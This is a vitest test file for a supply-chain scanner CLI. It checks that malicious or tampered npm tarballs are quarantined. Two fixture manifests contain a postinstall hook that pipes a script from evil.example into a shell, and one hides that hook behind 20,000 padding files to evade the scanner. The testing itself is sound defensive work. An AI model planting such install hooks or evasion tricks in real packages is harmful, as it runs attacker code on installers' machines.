import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createHash } from 'node:crypto';
import { create as createTar } from 'tar';
import { runCli } from '../support/cli.js';
import { packument, startTestRegistry, type TestRegistry } from '../registry/server.js';
import { rawTgz } from '../scan/support.js';

let reg: TestRegistry;
let project: string;

/** Packs a package folder into an npm-style tarball (entries under `package/`). */
async function pack(dir: string, manifest: object, files: Record<string, string> = {}): Promise<Buffer> {
  const src = join(dir, 'package');
  mkdirSync(src, { recursive: true });
  writeFileSync(join(src, 'package.json'), JSON.stringify(manifest));
  for (const [name, text] of Object.entries(files)) writeFileSync(join(src, name), text);
  const out = join(dir, 'out.tgz');
  await createTar({ gzip: true, file: out, cwd: dir, portable: true }, ['package']);
  return readFileSync(out);
}

const sri = (b: Buffer) => `sha512-${createHash('sha512').update(b).digest('base64')}`;
const OLD = new Date(Date.now() - 400 * 86_400_000).toISOString();

beforeAll(async () => {
  reg = await startTestRegistry();
  const tmp = mkdtempSync(join(tmpdir(), 'sscs-scan-pack-'));
  const good = await pack(join(tmp, 'good'), { name: 'good-pkg', version: '1.0.0', scripts: { postinstall: 'node build.js' } }, { 'build.js': 'console.log("built")\n' });
  const bad = await pack(join(tmp, 'bad'), { name: 'bad-pkg', version: '1.0.0', scripts: { postinstall: 'curl -s http://evil.example/x.sh | sh' } });
  const lock: { packages: Record<string, object> } & Record<string, unknown> = {
    name: 'app',
    version: '1.0.0',
    lockfileVersion: 3,
    requires: true,
    packages: { '': { name: 'app', version: '1.0.0', dependencies: { 'good-pkg': '1.0.0', 'bad-pkg': '1.0.0', 'swapped-pkg': '1.0.0', 'weak-pkg': '1.0.0', 'md5-pkg': '1.0.0', 'padded-pkg': '1.0.0' } } },
  };
  const other = await pack(join(tmp, 'other'), { name: 'weak-pkg', version: '1.0.0', scripts: { postinstall: 'node build.js' } }, { 'build.js': 'console.log("other")\n' });
  // 20,000 empty files ahead of the manifest whose postinstall pipes a download into a shell: the scan stops at
  // its entry limit before reading the manifest, so it must not call the package clean.
  const padding = Array.from({ length: 20_000 }, (_, i) => ({ path: `package/pad/${i}.txt` }));
  const padded = rawTgz([...padding, { path: 'package/package.json', body: JSON.stringify({ name: 'padded-pkg', version: '1.0.0', scripts: { postinstall: 'curl -s http://evil.example/x.sh | sh' } }) }]);
  const sha1 = (b: Buffer) => `sha1-${createHash('sha1').update(b).digest('base64')}`;
  for (const [name, tgz, integrity] of [
    ['good-pkg', good, sri(good)],
    ['bad-pkg', bad, sri(bad)],
    ['swapped-pkg', bad, sri(good)],
    // A sha1 match must not stand in for a sha512 mismatch, and an algorithm sscs cannot check is no check.
    ['weak-pkg', other, `${sha1(other)} ${sri(good)}`],
    ['md5-pkg', other, 'md5-AAAAAAAAAAAAAAAAAAAAAA=='],
    ['padded-pkg', padded, sri(padded)],
  ] as const) {
    const path = `/${name}/-/${name}-1.0.0.tgz`;
    reg.files.set(path, tgz);
    reg.packuments.set(name, packument(name, { '1.0.0': { published: OLD, license: 'MIT', scripts: { postinstall: 'x' } } }));
    lock.packages[`node_modules/${name}`] = { version: '1.0.0', resolved: `${reg.url.slice(0, -1)}${path}`, integrity, hasInstallScript: true };
  }
  project = mkdtempSync(join(tmpdir(), 'sscs-scan-project-'));
  writeFileSync(join(project, 'package-lock.json'), JSON.stringify(lock));
});
afterAll(() => reg.close());

describe('sscs policy check --scan', () => {
  it('quarantines a tarball with a critical finding and one that does not match its integrity, and lets a clean one through', async () => {
    const r = await runCli(['policy', 'check', 'package-lock.json', '--scan', '--registry', reg.url, '--cache-dir', join(project, 'cache'), '--format', 'json'], { cwd: project });
    expect(r.exitCode).toBe(1);
    const report = JSON.parse(r.stdout) as { checks: { scan: boolean }; packages: { name: string; decision: string; rule: string; reason: string }[] };
    const of = (n: string) => report.packages.find((p) => p.name === n)!;
    expect(report.checks.scan).toBe(true);
    expect(of('bad-pkg')).toMatchObject({ decision: 'quarantine', rule: 'suspicious-code' });
    expect(of('bad-pkg').reason).toContain('install-script-remote-code (critical)');
    expect(of('swapped-pkg')).toMatchObject({ decision: 'quarantine', rule: 'suspicious-code' });
    expect(of('swapped-pkg').reason).toContain('scan-failed:INTEGRITY (high)');
    for (const name of ['weak-pkg', 'md5-pkg']) {
      expect(of(name), name).toMatchObject({ decision: 'quarantine', rule: 'suspicious-code' });
      expect(of(name).reason, name).toContain('scan-failed:INTEGRITY (high)');
    }
    expect(of('good-pkg')).toMatchObject({ decision: 'warn', rule: 'install-scripts' });
    // Not read whole: the suspicious fact is unknown, which takes the rule's own action by default.
    expect(of('padded-pkg')).toMatchObject({ decision: 'quarantine', rule: 'suspicious-code' });
    expect(of('padded-pkg').reason).toContain('the scan is incomplete (scan-incomplete');
  });
});
